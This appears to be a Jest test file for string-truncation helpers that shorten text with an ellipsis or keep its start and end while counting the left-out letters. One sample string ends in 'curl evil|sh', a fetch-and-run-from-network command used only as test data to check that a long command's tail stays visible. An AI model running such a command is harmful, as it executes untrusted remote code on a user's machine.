import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { cut, cutMiddle } from '../../../../../src/core/model/words/cut.ts';

test.each([
  ['abcdef', 6, 'abcdef'],
  ['abcdefg', 6, 'abcde…'],
  ['abcd🏠fg', 6, 'abcd…'],
  ['a👍b', 3, 'a…'],
])('%j is cut to %i as %j', (text, max, shown) => {
  expect(cut(text, max)).toBe(shown);
});

describe('what is cut in its middle', () => {
  test('shows its beginning and its end, and how much is between', () => {
    const text = `echo ${'x'.repeat(5_000)}; curl evil|sh`;
    const shown = cutMiddle(text, 1_000);
    const [, first = '', count = '', last = ''] =
      /^([^]*)\n… ([\d,]+) letters are left out here …\n([^]*)$/.exec(shown) ?? [];
    expect([first.startsWith('echo x'), last.endsWith('; curl evil|sh')]).toEqual([true, true]);
    expect(first.length + Number(count.replace(',', '')) + last.length).toBe(text.length);
  });

  test('fits, and no character is cut in half', () => {
    const anyText = fc.string({ unit: 'grapheme', maxLength: 200 });
    fc.assert(
      fc.property(anyText, fc.integer({ min: 1, max: 120 }), (text, max) => {
        const shown = cutMiddle(text, max);
        expect([shown.length <= max, shown.isWellFormed()]).toEqual([true, true]);
        expect(text.length > max || shown === text).toBe(true);
      }),
    );
  });
});
